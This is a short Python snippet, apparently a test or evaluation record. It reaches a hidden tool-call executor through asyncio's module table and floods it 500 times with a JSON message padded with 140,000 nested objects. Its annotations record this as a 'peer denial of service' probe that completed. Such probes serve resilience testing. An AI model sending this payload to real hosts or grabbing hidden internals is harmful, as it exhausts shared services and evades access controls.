import asyncio
from operator import attrgetter

# Each object has seven bytes here, and hundreds in the host once parsed.
executor = attrgetter("events.sys.modules")(asyncio)["_executor"]
message = b'{"tool":"x","arguments":{"a":[' + b'{"":0},' * 140_000 + b"0]}}"
refused = 0
for _ in range(500):
    try:
        executor.call(message)
    except RuntimeError:
        refused += 1
refused
#> class: "peer denial of service"
#> outcome: ["completed"]
# The first 64 refused calls get the reason.
#> value: 435
